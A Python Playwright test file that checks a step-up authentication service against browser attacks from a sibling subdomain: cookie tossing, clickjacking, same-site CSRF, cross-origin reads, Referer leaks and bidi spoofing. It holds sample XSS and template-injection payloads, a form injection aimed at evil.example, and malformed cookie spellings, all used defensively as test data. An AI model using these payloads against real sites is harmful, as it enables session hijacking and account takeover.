"""Attacks on step-up that need the victim's browser, most of them from a sibling of the attacked origin: the same site,
and so with all cookies. Each by the name of what it must not reach.
"""

from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from urllib.parse import quote

import pytest
from e2e.stage import Script, stage
from e2e.visitors import Crowd, Site, Visitor
from playwright.sync_api import Browser, expect

from extauthz.values.identity import HOLDER_COOKIE, NONCE_COOKIE

POLICIES = (Path(__file__).parent / "policies" / "attacks.yaml").read_text()
HOST = "bank.example.test"
PLANTED = (
    "{name}={value}; path=/; secure; domain=bank.example.test",
    "{name}={value}; path=/; secure; domain=example.test",
    "{name}={value}; path=/vault; secure; domain=bank.example.test",
    "={name}={value}; path=/; secure; domain=bank.example.test",  # a cookie without a name, whose value looks like one
    "\u2000{name}={value}; path=/; secure; domain=bank.example.test",  # for readers that strip more than blanks
    "$Version=1; {name}={value}; path=/; secure; domain=bank.example.test",
)
"""How a sibling may try to set a cookie of the origin above it."""
SUBMIT = """([target, fields]) => {
    const form = Object.assign(document.createElement("form"), { method: "post", action: target });
    for (const [name, value] of Object.entries(fields)) {
        form.append(Object.assign(document.createElement("input"), { name, value }));
    }
    document.body.append(form);
    form.submit();
}"""


FETCH = """([url, init]) => fetch(url, init).then(
    async answer => `${answer.type} ${answer.status} ${await answer.text()}`,
    error => error.name,
)"""
FRAME = """urls => Promise.all(urls.map(src => new Promise(resolve => {
    document.body.append(Object.assign(document.createElement("iframe"), { src, onload: resolve }));
})))"""


@pytest.fixture(scope="module")
def site(screenshots: Path) -> Iterator[Site]:
    with stage(Script(policies=POLICIES, configuration={"request": {"buffered": True}})) as running:
        port = running.admin.port("https")
        yield Site(stage=running, url=f"https://{HOST}:{port}", screenshots=screenshots)


@pytest.fixture
def crowd(site: Site, browser: Browser) -> Iterator[Crowd]:
    made = Crowd(site, browser)
    yield made
    made.close()


def sibling(site: Site) -> str:
    """The attacker's origin, one label below that of the bank."""
    return site.url.replace("https://", "https://evil.")


def lure(victim: Visitor) -> None:
    """The victim opens a page of the attacker, in which its scripts run from then on."""
    victim.page.goto(f"{sibling(victim.site)}/")


def cookies(visitor: Visitor) -> dict[str, str]:
    return {cookie["name"]: cookie["value"] for cookie in visitor.context.cookies(visitor.site.url)}


def test_cookies_planted_by_a_subdomain_make_no_ones_page_and_no_ones_proof(site: Site, crowd: Crowd) -> None:
    """The attacker's nonce would open the attacker's link to the victim, the attacker's holder share the victim's
    proof.
    """
    attacker, victim = crowd.visitor("planter"), crowd.visitor("planted")
    theirs, code = site.factors.add_app("planter"), site.factors.add_app("planted")
    attacker.go("/payees/1")
    attacker.enter(theirs(0))
    attacker.is_at("/payees/1")
    attacker.go("/vault")
    link, held = attacker.page.url, cookies(attacker)

    lure(victim)
    for name in (NONCE_COOKIE, HOLDER_COOKIE):
        for spelling in PLANTED:
            victim.page.evaluate("text => { document.cookie = text; }", spelling.format(name=name, value=held[name]))
    victim.page.evaluate("document.cookie = 'control=arrives; path=/; secure; domain=bank.example.test'")
    victim.go("/free")
    arrived = "; ".join(site.stage.service.received[-1].all("cookie"))
    assert "control=arrives" in arrived
    assert HOLDER_COOKIE not in [pair.partition("=")[0].strip(" \t") for pair in arrived.split(";")]

    victim.page.goto(link)
    victim.is_told("This page belongs to another browser")
    victim.go("/vault")
    victim.enter(code(0))
    victim.is_at("/vault")
    assert cookies(victim)[HOLDER_COOKIE] != held[HOLDER_COOKIE]
    (grant,) = site.factors.grants("planted")
    attacker.context.add_cookies([{"name": "session", "value": cookies(victim)["session"], "url": site.url}])
    attacker.go("/vault")
    attacker.is_asked()
    assert site.factors.grants("planted") == (grant,)


def test_clickjacking_shows_nothing_that_could_be_clicked(site: Site, crowd: Crowd) -> None:
    victim = crowd.visitor("framed")
    site.factors.add_app("framed")
    victim.go("/vault")
    victim.is_asked()
    pages = [victim.page.url, f"{site.url}/.extauthz/done", f"{site.url}/.extauthz/nothing"]
    answered: list[int] = []
    victim.page.on("response", lambda one: answered.append(one.status) if one.url in pages else None)
    lure(victim)
    victim.page.evaluate(FRAME, [*pages, f"{site.url}/free"])
    *ours, control = victim.page.frames[1:]
    expect(control.locator("body")).to_contain_text('"target": "/free"')
    assert sorted(answered) == [200, 200, 404]
    for frame in ours:
        expect(frame.locator("main")).to_have_count(0)


def test_a_form_of_a_sibling_confirms_nothing(site: Site, crowd: Crowd) -> None:
    """Login CSRF from the same site: the cookies come along, and ticket and code are right."""
    victim = crowd.visitor("forged")
    code = site.factors.add_app("forged")
    victim.go("/vault")
    fields = {"ticket": victim.ticket(), "factor": "totp", "code": code(0)}
    lure(victim)
    victim.page.evaluate(SUBMIT, [f"{site.url}/.extauthz/challenge", fields])
    victim.is_told("This form was not sent by this page")
    assert site.factors.grants("forged") == ()
    victim.go("/vault")
    victim.enter(fields["code"])
    victim.is_at("/vault")


def test_a_script_of_a_sibling_learns_no_ticket(site: Site, crowd: Crowd) -> None:
    """Whatever it sends with the victim's cookies, it may not read what comes back, nor send what needs leave."""
    victim = crowd.visitor("read")
    lure(victim)
    asked: list[int] = []
    victim.page.on("response", lambda one: asked.append(one.status))
    before = len(site.stage.service.received)
    for init, read in (({}, "TypeError"), ({"method": "PUT"}, "TypeError"), ({"mode": "no-cors"}, "opaque 0 ")):
        got = victim.page.evaluate(FETCH, [f"{site.url}/vault", {**init, "credentials": "include"}])
        assert got == read, init
    assert asked == [401], "of what no script may read, the browser tells the last one"
    assert "/vault" not in [one.target for one in site.stage.service.received[before:]]


def test_the_address_of_a_ticket_is_referred_to_nobody(site: Site, crowd: Crowd) -> None:
    """The way back, the way on from a notice, and a link that an extension or a person follows from the page."""
    alice = crowd.visitor("referred")
    code = site.factors.add_app("referred")
    before, sent = len(site.stage.service.received), list[str]()
    alice.context.on("request", lambda request: sent.append(request.headers.get("referer", "")))
    lure(alice)
    alice.go("/vault")
    ticket = alice.ticket()
    alice.enter(code(0))
    alice.is_at("/vault")
    alice.page.go_back()
    alice.enter(code(1))
    alice.is_told("This confirmation was used already")
    alice.page.get_by_role("link", name="Start again").click()
    alice.is_at("/vault")
    alice.go("/payees/1")
    other = alice.ticket()
    alice.page.evaluate("url => { location.href = url; }", f"{sibling(site)}/followed")
    alice.page.wait_for_url(f"{sibling(site)}/followed")
    assert sent
    assert not [referrer for referrer in sent if "/.extauthz/" in referrer]
    received = site.stage.service.received[before:]
    assert {"/vault", "/followed"} <= {one.target for one in received}
    assert not [one for one in received for _, value in one.headers if ticket in value or other in value]


@pytest.mark.parametrize(
    "note",
    [
        "<script>window.hacked = 1</script>",
        "<img src=x onerror='window.hacked = 1'>",
        '"><svg onload="window.hacked = 1">',
        "</dd></dl><form action=//evil.example><input name=code>",
        "{{ 7 * 7 }}{% include 'style.css' %}",
        "<style>body { display: none }</style>",
        "&lt;b&gt; &#x3c;i&#x3e;",
    ],
)
def test_a_script_in_what_is_shown_is_text(site: Site, crowd: Crowd, note: str) -> None:
    alice = crowd.visitor("shown")
    alice.go("/start")
    site.factors.add_app("shown")
    alice.go(f"/payees/{quote(note, safe='')}?note={quote(note, safe='')}")
    if alice.page.url.startswith(f"{site.url}/payees/"):  # a path with `%2F` is read by nobody
        alice.go(f"/payees/1?note={quote(note, safe='')}")
    alice.is_asked()
    expect(alice.page.locator("dd.shown")).to_have_text(note)
    assert alice.page.evaluate("window.hacked") is None
    expect(alice.page.locator("form")).to_have_count(1)
    assert [said for said in alice.complaints if "Content Security Policy" in said] == []


def test_what_is_shown_can_not_be_read_in_another_order(site: Site, crowd: Crowd) -> None:
    """Bidirectional and invisible characters, which make an amount or a name look like another one."""
    alice = crowd.visitor("reversed")
    site.factors.add_app("reversed")
    alice.go(f"/payees/1?note={quote('to bob ‮000,1‬ ​x')}")
    expect(alice.page.locator("dd.shown")).to_have_text("to bob [U+202E]000,1[U+202C] [U+200B]x")
    alice.shoot("shown-characters")


def test_a_page_that_was_left_is_asked_for_again(site: Site, crowd: Crowd) -> None:
    """Cached pages: after a log-out the back button brings nothing of the challenge back."""
    alice = crowd.visitor("left")
    site.factors.add_app("left")
    alice.go("/vault")
    alice.is_asked()
    alice.go("/free")
    alice.context.clear_cookies()
    asked: list[str] = []
    tab = replace(alice)
    tab.page.on("request", lambda request: asked.append(request.url))
    tab.page.go_back()
    tab.is_told("This page belongs to another browser")
    assert any("/.extauthz/challenge" in url for url in asked)
